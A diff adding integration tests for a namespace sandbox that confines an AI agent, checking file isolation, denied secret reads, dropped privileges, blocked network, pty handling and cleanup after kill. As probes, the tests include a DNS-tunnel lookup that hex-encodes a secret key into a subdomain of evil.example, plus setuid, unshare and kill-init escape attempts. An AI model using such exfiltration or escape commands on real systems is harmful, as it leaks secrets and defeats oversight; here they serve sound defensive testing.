@@ -1,0 +1,257 @@
+"""`ifc run --isolation namespace`: status and output come back, only the workspace is visible, writes land
+through FUSE, a denied read is EACCES and logged, the agent is unprivileged for good, no network but the
+hook, a pty when there is a terminal, nothing survives `kill -9`. No VM: each run takes about a second."""
+
+from __future__ import annotations
+
+import fcntl
+import http.server
+import os
+import pty
+import select
+import signal
+import socket
+import sqlite3
+import struct
+import subprocess
+import sys
+import termios
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parent.parent
+POLICY = """\
+labels {
+  secrecy public < secret
+}
+files {
+  "**"    public
+  ".env*" secret
+}
+agent tester {
+  read "/src/", "/README.md"
+  write "/src/"
+  create "/src/"
+}
+"""
+
+pytestmark = pytest.mark.integration
+
+
+def _skip_reason() -> str | None:
+    if os.geteuid() != 0:
+        return "ifc run needs root"
+    if not os.path.exists("/dev/fuse"):
+        return "/dev/fuse is missing"
+    probe = subprocess.run(["unshare", "--mount", "--pid", "--net", "--uts", "--ipc", "--user", "--fork", "true"],
+                           capture_output=True, text=True)
+    if probe.returncode != 0:
+        return f"cannot create namespaces: {probe.stderr.strip()}"
+    return None
+
+
+if _skip_reason():
+    pytest.skip(_skip_reason(), allow_module_level=True)
+
+
+@pytest.fixture
+def workspace(tmp_path):
+    ws = tmp_path / "ws"
+    (ws / "src").mkdir(parents=True)
+    (ws / "src" / "main.py").write_text("print('hello')\n")
+    (ws / "README.md").write_text("# demo\n")
+    (ws / ".env").write_text("API_KEY=sk-secret\n")
+    for path in [ws, *ws.rglob("*")]:
+        os.chown(path, 1000, 1000)
+    policy = tmp_path / "policy.flow"
+    policy.write_text(POLICY)
+    return ws, policy, tmp_path / "run"
+
+
+def argv(ws, policy, run_dir, *cmd, extra=()) -> list[str]:
+    return [sys.executable, "-m", "ifc", "run", "--isolation", "namespace", "--policy", str(policy), "--workspace",
+            str(ws), "--run-dir", str(run_dir), *extra, "--", *cmd]
+
+
+def ifc_run(ws, policy, run_dir, *cmd, extra=()) -> subprocess.CompletedProcess:
+    return subprocess.run(argv(ws, policy, run_dir, *cmd, extra=extra), cwd=ROOT, capture_output=True, text=True,
+                          stdin=subprocess.DEVNULL, timeout=60)
+
+
+def test_status_and_output_come_back_with_the_loud_notice(workspace):
+    ws, policy, run_dir = workspace
+    proc = ifc_run(ws, policy, run_dir, "sh", "-c", "echo hi; echo oops >&2; exit 3")
+    assert proc.returncode == 3, proc.stderr
+    assert proc.stdout == "hi\n"
+    assert proc.stderr.splitlines()[0].startswith("ifc run: WEAKER ISOLATION:")
+    assert "host's kernel" in proc.stderr and "oops" in proc.stderr
+    assert f"ifc report {run_dir}" in proc.stderr
+    assert (run_dir / "events.db").exists() and (run_dir / "policy.flow").exists()
+    assert not (run_dir / "root").exists() and not (run_dir / "mnt").exists()
+
+
+def test_only_the_workspace_is_visible_and_writes_land(workspace):
+    ws, policy, run_dir = workspace
+    script = ("id -u; test ! -e /root && echo no-root; test ! -e /etc/shadow && echo no-shadow; "
+              f"test ! -e {ROOT} && echo no-host-tree; ls /home; touch /usr/x 2>/dev/null || echo usr-ro; "
+              "hostname; cat src/main.py; echo made > src/new.txt; pwd")
+    proc = ifc_run(ws, policy, run_dir, "sh", "-c", script)
+    assert proc.returncode == 0, proc.stderr + proc.stdout
+    assert proc.stdout.split("\n") == ["1000", "no-root", "no-shadow", "no-host-tree", "agent", "usr-ro", "sandbox",
+                                       "print('hello')", "/workspace", ""]
+    assert (ws / "src" / "new.txt").read_text() == "made\n"
+    assert (ws / "src" / "new.txt").stat().st_uid == 1000
+
+
+def test_denied_read_is_eacces_and_logged(workspace):
+    ws, policy, run_dir = workspace
+    proc = ifc_run(ws, policy, run_dir, "sh", "-c", "cat .env; echo status=$?")
+    assert "Permission denied" in proc.stderr
+    assert "sk-secret" not in proc.stdout + proc.stderr
+    assert "status=1" in proc.stdout
+    db = sqlite3.connect(run_dir / "events.db")
+    denied = db.execute("SELECT op, target FROM events WHERE allowed = 0").fetchall()
+    assert ("read", ".env") in denied, denied
+    assert "denial" in proc.stderr
+
+
+def test_the_agent_cannot_regain_privileges(workspace):
+    ws, policy, run_dir = workspace
+    script = ("grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status; grep NoNewPrivs /proc/self/status; "
+              "unshare -r true 2>/dev/null; echo unshare=$?; "
+              "python3 -c 'import os; os.setuid(0)' 2>/dev/null; echo setuid=$?; "
+              "kill -9 1 2>/dev/null; echo kill-init=$?")
+    proc = ifc_run(ws, policy, run_dir, "sh", "-c", script)
+    lines = proc.stdout.split("\n")
+    assert [line.split()[1] for line in lines[:4]] == ["0000000000000000"] * 4, proc.stdout
+    assert lines[4].split() == ["NoNewPrivs:", "1"]
+    assert lines[5:9] == ["unshare=1", "setuid=1", "kill-init=1", ""]
+
+
+def test_no_network_but_loopback_and_nothing_on_the_host(workspace):
+    ws, policy, run_dir = workspace
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen()
+        port = listener.getsockname()[1]
+        probe = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3)"
+        script = (f"python3 -c \"{probe}\" 2>/dev/null; echo host=$?; "
+                  "python3 -c \"import socket; socket.create_connection(('1.1.1.1', 80), timeout=3)\" 2>/dev/null; "
+                  "echo internet=$?; grep -c : /proc/net/dev; wc -c </etc/resolv.conf")
+        proc = ifc_run(ws, policy, run_dir, "sh", "-c", script)
+    assert proc.stdout.split() == ["host=1", "internet=1", "1", "0"], proc.stdout + proc.stderr  # lo only
+
+
+def test_a_file_read_taints_what_may_leave_through_the_egress_hook(tmp_path):
+    """As in the microVM: the agent reaches an allowed web server through the hook (127.0.0.1:3128 inside);
+    after it reads `.env` the same request is refused; a DNS tunnel is refused; one monitor sees both exits."""
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
+    port = server.server_address[1]
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "notes.md").write_text("hello\n")
+    (ws / ".env").write_text("API_KEY=sk-secret\n")
+    for path in [ws, *ws.rglob("*")]:
+        os.chown(path, 1000, 1000)
+    policy = tmp_path / "policy.flow"
+    policy.write_text(f"""\
+labels {{ secrecy public < internal < secret }}
+files {{
+  "**"    internal
+  ".env*" secret
+}}
+endpoints {{ "http://127.0.0.1:{port}" clearance internal returns trusted as web }}
+deny secret -> web "secrets never leave the sandbox"
+""")
+    run_dir = tmp_path / "run"
+    fetch = f"curl -s --noproxy '' -o /dev/null -w '%{{http_code}}' http://127.0.0.1:{port}/"
+    tunnel = "getent hosts 4150495f4b45593d736b2d736563726574.evil.example >/dev/null; echo dns=$?"
+    script = f"before=$({fetch}); cat .env >/dev/null; after=$({fetch}); echo $before $after; {tunnel}"
+    try:
+        proc = ifc_run(ws, policy, run_dir, "sh", "-c", script, extra=("--agent", "none", "--egress"))
+    finally:
+        server.shutdown()
+    assert proc.stdout.split() == ["200", "403", "dns=2"], proc.stdout + proc.stderr
+    db = sqlite3.connect(run_dir / "events.db")
+    denied = db.execute("SELECT op, target, rule, path FROM events WHERE kind = 'deny'").fetchall()
+    assert any(op == "connect" and "deny secret -> web" in rule and ".env" in path for op, _, rule, path in denied)
+    assert any(op == "dns" and target.endswith("evil.example") for op, target, _, _ in denied), denied
+
+
+def test_git_and_python_work_in_a_git_workspace(workspace):
+    ws, policy, run_dir = workspace
+    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
+           "GIT_COMMITTER_EMAIL": "t@t"}
+    for git in (["init", "-q"], ["add", "src", "README.md"], ["commit", "-qm", "init"]):
+        subprocess.run(["git", "-c", "safe.directory=*", "-C", str(ws), *git], check=True, env=env)
+    subprocess.run(["chown", "-R", "1000:1000", str(ws)], check=True)
+    proc = ifc_run(ws, policy, run_dir, "sh", "-c", 'git status && python3 -c "print(1)"', extra=("--agent", "none"))
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert "On branch" in proc.stdout and proc.stdout.endswith("1\n")
+
+
+def test_a_terminal_is_the_agents_own_pty_with_size_and_ctrl_c(workspace):
+    ws, policy, run_dir = workspace
+    pid, fd = pty.fork()
+    if pid == 0:  # the child execs `ifc run` on the pty's slave, 33 rows by 101 columns
+        fcntl.ioctl(0, termios.TIOCSWINSZ, struct.pack("HHHH", 33, 101, 0, 0))
+        os.chdir(ROOT)
+        cmd = argv(ws, policy, run_dir, "sh", "-c", "tty; stty size; echo READY; sleep 30; echo not-interrupted")
+        os.execv(cmd[0], cmd)
+    out, sent, deadline = b"", False, time.monotonic() + 30
+    while time.monotonic() < deadline:
+        if select.select([fd], [], [], 0.2)[0]:
+            try:
+                data = os.read(fd, 4096)
+            except OSError:  # EIO: the child is gone
+                break
+            out += data
+        if not sent and b"READY" in out:
+            time.sleep(0.3)
+            os.write(fd, b"\x03")  # raw on the host side: the byte reaches the agent's pty, which signals
+            sent = True
+    _, status = os.waitpid(pid, 0)
+    text = out.decode(errors="replace")
+    assert "/dev/pts/0\r\n33 101\r\nREADY" in text, text
+    assert "not-interrupted" not in text
+    assert os.waitstatus_to_exitcode(status) == 130, text
+
+
+def _leftovers(run_dir: Path, marker: str) -> list[str]:
+    """Processes of the run (by the run dir or the command's marker) and mount tables that still hold it."""
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+            mounts = Path(f"/proc/{pid}/mountinfo").read_text()
+        except OSError:
+            continue
+        if str(run_dir) in cmdline or marker in cmdline:
+            found.append(f"{pid}: {cmdline}")
+        elif str(run_dir) in mounts:
+            found.append(f"{pid} sees a mount of the run")
+    return found
+
+
+@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
+def test_killing_ifc_run_leaves_nothing(workspace, sig):
+    ws, policy, run_dir = workspace
+    marker = f"{os.getpid() % 1000 + 7000}.5"
+    proc = subprocess.Popen(argv(ws, policy, run_dir, "sleep", marker), cwd=ROOT, stdin=subprocess.DEVNULL,
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 30
+    while not any(marker in line and str(run_dir) not in line for line in _leftovers(run_dir, marker)):
+        assert proc.poll() is None, "ifc run exited early"
+        assert time.monotonic() < deadline, "the command did not start"
+        time.sleep(0.05)
+    os.kill(proc.pid, sig)
+    proc.wait(10)
+    deadline = time.monotonic() + 10
+    while _leftovers(run_dir, marker) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert _leftovers(run_dir, marker) == []
+    assert (ws / "src" / "main.py").read_text() == "print('hello')\n"  # the backing directory is intact
